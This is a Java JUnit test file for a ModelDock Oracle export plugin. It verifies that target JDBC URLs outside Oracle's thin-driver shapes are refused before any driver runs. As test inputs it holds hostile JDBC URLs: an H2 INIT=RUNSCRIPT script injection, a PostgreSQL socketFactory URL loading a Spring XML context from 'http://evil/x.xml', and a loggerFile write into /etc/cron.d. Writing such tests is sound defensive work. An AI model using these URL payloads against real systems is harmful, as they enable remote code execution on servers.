package dev.modeldock.export.oracle;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.modeldock.export.oracle.standin.StandInModels;
import dev.modeldock.plugin.ExportRequest;
import dev.modeldock.plugin.ModelDockException;
import dev.modeldock.plugin.Progress;
import java.lang.reflect.InvocationTargetException;
import java.lang.reflect.Method;
import java.net.URL;
import java.net.URLClassLoader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.SQLException;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.function.Executable;
import org.junit.jupiter.api.io.TempDir;

/**
 * A target setting must not run code in the server: the url reaches Oracle's driver only, in the
 * shapes we document, and anything else is refused before any driver sees it.
 */
class OracleTargetUrlTest {
    @TempDir
    Path work;

    @Test
    void anH2UrlWithAnInitScriptIsRefusedAndRunsNothing() throws Exception {
        Path marker = work.resolve("marker.sql");
        Path script = Files.writeString(work.resolve("init.sql"), "SCRIPT TO '" + sql(marker) + "';\n");
        String url = "jdbc:h2:mem:hostile;INIT=RUNSCRIPT FROM '" + sql(script) + "'";
        Map<String, String> settings = Map.of("url", url, "user", "SCOTT", "password", "tiger");

        Path profile = Files.writeString(work.resolve("profile.json"), "{\"url\": \"" + url
                + "\", \"user\": \"SCOTT\", \"password_env\": \"PATH\"}");
        List<Throwable> outcomes = Arrays.asList(
                thrown(() -> new OracleExportTarget().check("doc_model", settings)),
                thrown(() -> new OracleExportTarget().export(request(settings), Progress.NONE)),
                thrown(() -> new OracleExportTarget().inspect(request(settings))),
                thrown(() -> new OracleExportTarget().export(request(Map.of("profile", profile.toString())),
                        Progress.NONE)));

        assertFalse(Files.exists(marker), "the INIT script ran");
        for (Throwable e : outcomes) {
            assertInstanceOf(ModelDockException.class, e, "the URL was not refused");
            assertTrue(e.getMessage().contains("refuses this JDBC url: the scheme 'jdbc:h2:' is not Oracle's thin"
                    + " driver; accepted: jdbc:oracle:thin:@//host:port/service"), e.getMessage());
            assertFalse(e.getMessage().contains("INIT"), "the rest of the URL is not echoed: " + e.getMessage());
        }
    }

    @Test
    void otherSchemesAreRefusedNamingOnlyTheScheme() {
        assertRefused("jdbc:postgresql://db/x?socketFactory=org.springframework.context.support"
                + ".ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml&password=hunter2",
                "the scheme 'jdbc:postgresql:' is not Oracle's thin driver");
        assertRefused("jdbc:postgresql://db/x?loggerLevel=DEBUG&loggerFile=/etc/cron.d/x",
                "the scheme 'jdbc:postgresql:' is not Oracle's thin driver");
        assertRefused("jdbc:oracle:oci:@db", "the scheme 'jdbc:oracle:oci:' is not Oracle's thin driver");
        assertRefused("jdbc:derby:memory:x;create=true", "the scheme 'jdbc:derby:' is not Oracle's thin driver");
        assertRefused("jdbc:oracle:thinner:@//db:1521/X", "the scheme 'jdbc:oracle:thinner:' is not Oracle's thin");
        // The tests' stand-in is reached by its name alone; H2 settings after it are not a name.
        assertRefused("jdbc:oracle-standin:x;INIT=RUNSCRIPT FROM 'a.sql'", "a stand-in URL is jdbc:oracle-standin:NAME");
    }

    @Test
    void urlPropertiesDescriptorsAliasesAndCredentialsAreRefused() {
        assertRefused("jdbc:oracle:thin:@//db:1521/FREEPDB1?oracle.net.wallet_location=/tmp/w",
                "URL parameters (?key=value) are not accepted");
        assertRefused("jdbc:oracle:thin:@//db:1521/FREEPDB1?TNS_ADMIN=/tmp", "URL parameters (?key=value)");
        assertRefused("jdbc:oracle:thin:@db:1521/FREEPDB1?oracle.jdbc.fanEnabled=false", "URL parameters (?key=value)");
        assertRefused("jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=tcp)(HOST=db)(PORT=1521))"
                + "(CONNECT_DATA=(SERVICE_NAME=X))(SECURITY=(MY_WALLET_DIRECTORY=/tmp/w)))", "TNS descriptors");
        assertRefused("jdbc:oracle:thin:@prod_alias", "TNS aliases are not accepted");
        assertRefused("jdbc:oracle:thin:@//db:1521/X;INIT=x", "not an accepted Oracle URL");
        assertRefused("jdbc:oracle:thin:@//db:99999/X", "port 99999 is not between 1 and 65535");
        ModelDockException e = assertRefused("jdbc:oracle:thin:scott/hunter2@//db:1521/X", "credentials do not go in");
        assertFalse(e.getMessage().contains("hunter2"), e.getMessage());
    }

    @Test
    void theDocumentedOracleShapesAreAccepted() {
        for (String url : new String[] {"jdbc:oracle:thin:@//db.example.com:1521/FREEPDB1",
                "jdbc:oracle:thin:@//db/FREEPDB1", "jdbc:oracle:thin:@//[::1]:1521/pdb1.example.com",
                "jdbc:oracle:thin:@db-1:1521/FREEPDB1", "jdbc:oracle:thin:@10.0.0.7:1521:ORCL"}) {
            assertEquals(url, OracleUrl.check(url));
            new OracleExportTarget().check("doc_model", Map.of("url", url, "user", "SCOTT", "password", "p"));
        }
    }

    @Test
    void anOracleUrlReachesOraclesDriverAndFailsOnlyAtConnecting() throws Exception {
        // Port 1 on the loopback interface: nothing listens, so Oracle's driver itself reports the failure.
        Map<String, String> settings = Map.of("url", "jdbc:oracle:thin:@//127.0.0.1:1/FREEPDB1", "user", "SCOTT",
                "password", "never-shown-7d1");
        ModelDockException e = assertThrows(ModelDockException.class,
                () -> new OracleExportTarget().export(request(settings), Progress.NONE));
        assertTrue(e.getMessage().startsWith("cannot connect as SCOTT@jdbc:oracle:thin:@//127.0.0.1:1/FREEPDB1"),
                e.getMessage());
        SQLException cause = assertInstanceOf(SQLException.class, e.getCause());
        assertTrue(cause.getMessage().contains("ORA-"), cause.getMessage());
        assertFalse(e.getMessage().contains("never-shown-7d1"));
        assertInstanceOf(oracle.jdbc.OracleDriver.class, OracleUrl.driver("jdbc:oracle:thin:@//127.0.0.1:1/FREEPDB1"));
    }

    /** As shipped, without the test jar, the plugin's classes refuse the stand-in's scheme like any other. */
    @Test
    void withoutTheTestJarTheStandInSchemeIsRefused() throws Exception {
        URL classes = OracleUrl.class.getProtectionDomain().getCodeSource().getLocation();
        try (URLClassLoader shipped = new PluginClassesOnly(classes, getClass().getClassLoader())) {
            Class<?> url = shipped.loadClass(OracleUrl.class.getName());
            assertEquals(shipped, url.getClassLoader());
            Method check = url.getDeclaredMethod("check", String.class);
            check.setAccessible(true);
            assertEquals("jdbc:oracle:thin:@//db:1521/X", check.invoke(null, "jdbc:oracle:thin:@//db:1521/X"));
            InvocationTargetException e = assertThrows(InvocationTargetException.class,
                    () -> check.invoke(null, "jdbc:oracle-standin:x"));
            assertTrue(e.getCause().getMessage().contains("the scheme 'jdbc:oracle-standin:' is not Oracle's thin"),
                    e.getCause().getMessage());
        }
        assertEquals("jdbc:oracle-standin:x", OracleUrl.check("jdbc:oracle-standin:x"), "with the test jar it is");
    }

    private static Throwable thrown(Executable call) {
        try {
            call.execute();
            return null;
        } catch (Throwable e) {
            return e;
        }
    }

    private static ModelDockException assertRefused(String url, String expected) {
        ModelDockException e = assertThrows(ModelDockException.class,
                () -> new OracleExportTarget().check("doc_model", Map.of("url", url, "user", "SCOTT", "password", "p")));
        assertTrue(e.getMessage().startsWith("the oracle target refuses this JDBC url: "), e.getMessage());
        assertTrue(e.getMessage().contains(expected), e.getMessage());
        return e;
    }

    private ExportRequest request(Map<String, String> settings) throws Exception {
        Path model = work.resolve("pipeline.onnx");
        if (!Files.exists(model)) {
            StandInModels.embedding().write(model);
        }
        return new ExportRequest("doc_model", model, "0".repeat(64), OracleExportTargetTest.METADATA,
                new HashMap<>(settings));
    }

    private static String sql(Path path) {
        return path.toAbsolutePath().toString().replace("\\", "/").replace("'", "''");
    }

    /** The plugin's own classes from its main output alone; its test classes (the stand-in) are absent. */
    private static final class PluginClassesOnly extends URLClassLoader {
        private static final String PLUGIN = "dev.modeldock.export.oracle.";

        PluginClassesOnly(URL classes, ClassLoader parent) {
            super(new URL[] {classes}, parent);
        }

        @Override
        protected Class<?> loadClass(String name, boolean resolve) throws ClassNotFoundException {
            synchronized (getClassLoadingLock(name)) {
                if (!name.startsWith(PLUGIN)) {
                    return super.loadClass(name, resolve);
                }
                if (name.startsWith(PLUGIN + "standin.")) {
                    throw new ClassNotFoundException(name + " is a test class");
                }
                Class<?> loaded = findLoadedClass(name);
                return loaded != null ? loaded : findClass(name);
            }
        }
    }
}
